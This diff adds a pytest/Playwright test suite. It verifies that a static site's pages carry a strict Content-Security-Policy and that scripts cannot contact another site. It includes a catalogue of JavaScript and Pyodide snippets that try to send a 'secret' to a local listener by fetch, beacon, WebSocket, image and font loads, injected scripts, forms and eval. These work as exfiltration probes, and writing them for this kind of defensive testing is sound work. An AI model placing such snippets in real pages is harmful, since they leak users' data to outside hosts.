@@ -1,0 +1,181 @@
+"""Nothing leaves the site, and nothing runs that is not its own."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+from html.parser import HTMLParser
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from queue import Queue
+from threading import Thread
+
+import pytest
+from conftest import READY, Host
+from playwright.sync_api import Browser, Page
+
+LEAST = {
+    "default-src": {"'none'"},
+    "base-uri": {"'none'"},
+    "form-action": {"'none'"},
+    "script-src": {"'self'", "'wasm-unsafe-eval'"},
+    "style-src": set(),
+    "connect-src": {"'self'"},
+    "img-src": {"'self'"},
+    "manifest-src": {"'self'"},
+    "worker-src": {"'self'"},
+}
+"""All that a page may do, but for what stands in it."""
+
+
+class Policy(HTMLParser):
+    """The policy of a page, with what comes before it."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.before: list[str] = []
+        self.directives: dict[str, set[str]] = {}
+        self.feed(html)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        given = dict(attrs)
+        assert not [name for name in given if name == "style" or name.startswith("on")]
+        if given.get("http-equiv") == "Content-Security-Policy":
+            assert not self.directives
+            for directive in str(given["content"]).split(";"):
+                name, *sources = directive.split()
+                self.directives[name] = set(sources)
+        elif not self.directives:
+            self.before.append(tag)
+
+
+def test_every_page_has_the_policy_before_all_else(site: Path) -> None:
+    pages = list(site.glob("**/*.html"))
+    assert pages
+    for page in pages:
+        policy = Policy(page.read_text())
+        assert policy.before == ["html", "head", "meta"], "nothing but the character set"
+        hashed = {
+            name: {each for each in sources if not re.fullmatch("'sha256-.{44}'", each)}
+            for name, sources in policy.directives.items()
+        }
+        assert hashed == LEAST, page.name
+
+
+class Ear(ThreadingHTTPServer):
+    """Another site, which hears whatever reaches it."""
+
+    def __init__(self) -> None:
+        self.heard: Queue[str] = Queue()
+        heard = self.heard
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                heard.put(self.path)
+                self.send_response(204)
+                self.end_headers()
+
+            def do_POST(self) -> None:
+                self.do_GET()
+
+            def log_message(self, *_: object) -> None: ...
+
+        super().__init__(("127.0.0.1", 0), Handler)
+        Thread(target=self.serve_forever, daemon=True).start()
+
+    @property
+    def url(self) -> str:
+        return f"http://localhost:{self.server_port}/secret"
+
+
+@pytest.fixture
+def ear() -> Iterator[Ear]:
+    ear = Ear()
+    yield ear
+    ear.shutdown()
+    ear.server_close()
+
+
+APPEND = "const it = Object.assign(document.createElement('%s'), %s); document.body.append(it);"
+WAYS = {
+    "fetch": "fetch(to, { mode: 'no-cors' })",
+    "request": "const it = new XMLHttpRequest(); it.open('POST', to); it.send('secret')",
+    "beacon": "navigator.sendBeacon(to, 'secret')",
+    "socket": "new WebSocket(to.replace('http', 'ws'))",
+    "events": "new EventSource(to)",
+    "image": "new Image().src = to",
+    "picture": "document.body.style.backgroundImage = `url(${to})`",
+    "film": "document.createElement('video').src = to",
+    "font": "new FontFace('secret', `url(${to})`).load()",
+    "module": "import(to)",
+    "script": APPEND % ("script", "{ src: to }"),
+    "sheet": APPEND % ("link", "{ rel: 'stylesheet', href: to }"),
+    "prefetch": APPEND % ("link", "{ rel: 'prefetch', href: to }"),
+    "preload": APPEND % ("link", "{ rel: 'preload', as: 'image', href: to }"),
+    "frame": APPEND % ("iframe", "{ src: to }"),
+    "object": APPEND % ("object", "{ data: to }"),
+    "form": APPEND % ("form", "{ action: to, method: 'post' }") + "it.submit()",
+    "click": APPEND % ("a", "{ href: '#', ping: to }") + "it.click()",
+    "inline": APPEND % ("script", "{ textContent: `new Image().src = '${to}'` }"),
+    "attribute": "document.body.setAttribute('onclick', `new Image().src = '${to}'`);"
+    "document.body.click()",
+    "markup": "document.body.innerHTML = `<img src='${to}'>`",
+    "style": "document.body.innerHTML = `<p style='background: url(${to})'>.</p>`",
+    "string": "Function('to', 'new Image().src = to')(to)",
+}
+"""How a script may tell another site something, without leaving the page."""
+PYTHON = {
+    "fetch": "import js; js.fetch(to)",
+    "request": "import js; it = js.XMLHttpRequest.new(); it.open('POST', to); it.send('secret')",
+    "image": "import js; js.Image.new().src = to",
+    "string": "import js; js.eval(f'new Image().src = \"{to}\"')",
+}
+TRY = """([script, to]) => new Promise((done) => {
+    addEventListener("securitypolicyviolation", (stopped) => done(stopped.effectiveDirective));
+    setTimeout(() => done("nothing"), 5_000);
+    setTimeout(async () => { %s });
+})"""
+"""Has a page try it, and returns what stopped that."""
+RUN_PYTHON = """
+    const { loadPyodide } = await import(document.querySelector("[src*=interpreter]").src);
+    const python = await loadPyodide({ stdout: console.log, stderr: console.log });
+    python.runPython(script);
+"""
+
+
+def tries(page: Page, host: Host, to: str) -> Iterator[tuple[str, str, list[str]]]:
+    """On one page after the other, a name, a script that tries to tell `to` under that name, and
+    what it is given."""
+    for name, script in WAYS.items():
+        page.goto(f"{host.url}404.html")
+        yield name, script, ["", f"{to}/{name}"]
+    page.goto(f"{host.url}pynim.html")
+    page.locator(READY).wait_for(state="attached")
+    for name, line in PYTHON.items():
+        way = f"Python/{name}"
+        yield way, RUN_PYTHON, [f"to = '{to}/{way}'\n{line}", ""]
+
+
+def test_nothing_leaves_a_page(browser: Browser, host: Host, ear: Ear, stopped: list[str]) -> None:
+    context = browser.new_context(service_workers="block")
+    page = context.new_page()
+    by = {
+        name: page.evaluate(TRY % script, given)
+        for name, script, given in tries(page, host, ear.url)
+    }
+    context.close()
+    assert [name for name in by if by[name] == "nothing"] == []
+    assert len(stopped) >= len(by), "each of them would fail the run"
+    stopped.clear()
+    assert ear.heard.empty()
+
+
+def test_without_the_policy_each_of_these_ways_is_open(
+    browser: Browser, host: Host, ear: Ear
+) -> None:
+    context = browser.new_context(service_workers="block", bypass_csp=True)
+    page = context.new_page()
+    for name, script, given in tries(page, host, ear.url):
+        page.evaluate(f"([script, to]) => {{ setTimeout(async () => {{ {script} }}) }}", given)
+        assert ear.heard.get(timeout=10) == f"/secret/{name}"
+    context.close()
